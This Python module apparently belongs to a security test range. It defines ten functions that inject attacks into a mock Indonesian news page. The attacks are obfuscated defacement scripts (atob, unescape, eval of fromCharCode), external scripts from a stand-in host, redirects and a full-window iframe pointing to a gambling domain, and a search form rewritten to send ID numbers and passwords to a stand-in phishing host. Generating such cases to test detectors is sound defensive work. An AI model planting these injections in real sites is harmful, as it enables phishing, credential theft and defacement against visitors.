"""Code of strangers: scripts that unpack themselves or lead away, frames, forms that send what is typed elsewhere."""

import re
from base64 import b64encode
from urllib.parse import quote

from sentinel.range.living.attacks.change import Attack, front_page, in_body, in_head

STRANGER = "https://cdn.statistik-cepat.example"
_SIGNED = "<h1>Pesan dari kami</h1><p>situs ini milik kami sekarang</p>"


@front_page
def written_by_atob(page: str) -> str:
    """A script that writes a page of its own out of base64."""
    packed = b64encode(_SIGNED.encode()).decode()
    return in_body(page, f'<script>document.body.innerHTML = atob("{packed}");</script>')


@front_page
def written_by_unescape(page: str) -> str:
    """A script that writes a page of its own out of escaped text."""
    return in_body(page, f"<script>document.write(unescape('{quote(_SIGNED)}'));</script>")


@front_page
def code_from_characters(page: str) -> str:
    """A script that evaluates text made of character codes."""
    codes = ",".join(str(ord(c)) for c in "document.title='milik kami'")
    return in_body(page, f"<script>eval(String.fromCharCode({codes}))</script>")


@front_page
def script_in_title(page: str) -> str:
    """A stranger's script, pasted into the title of a piece of news."""
    return page.replace('<li class="berita"><h3>', f'<li class="berita"><h3><script src="{STRANGER}/x.js"></script>', 1)


@front_page
def foreign_script(page: str) -> str:
    """A script of an unknown host in the head, and nothing else."""
    return in_head(page, f'<script src="{STRANGER}/a.js" async></script>')


@front_page
def refresh_elsewhere(page: str) -> str:
    """The page sends its visitors away after a moment."""
    return in_head(page, '<meta http-equiv="refresh" content="1; url=https://hadiah.judi.test/">')


@front_page
def script_elsewhere(page: str) -> str:
    """A script sends visitors away."""
    return in_head(page, '<script>window.location.replace("https://hadiah.judi.test/?ref=1");</script>')


@front_page
def script_for_searchers(page: str) -> str:
    """A script sends those away who come from a search."""
    said = 'if (document.referrer.indexOf("google") > -1) { window.location.href = "https://hadiah.judi.test/"; }'
    return in_head(page, f"<script>{said}</script>")


@front_page
def frame_over_all(page: str) -> str:
    """A stranger's page in a frame that fills the window."""
    style = "position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;z-index:9999"
    return in_body(page, f'<iframe src="https://hadiah.judi.test/main" style="{style}"></iframe>')


@front_page
def form_elsewhere(page: str) -> str:
    """The search box asks for identity number and password, and sends them to a stranger."""
    fields = '<input name="nik"><input name="sandi" type="password">'
    return re.sub(
        r'<form action="/cari">', f'<form action="https://verifikasi-pemilih.example/k.php">{fields}', page, count=1
    )


ATTACKS: tuple[Attack, ...] = (
    written_by_atob, written_by_unescape, code_from_characters, script_in_title, foreign_script, refresh_elsewhere,
    script_elsewhere, script_for_searchers, frame_over_all, form_elsewhere,
)  # fmt: skip
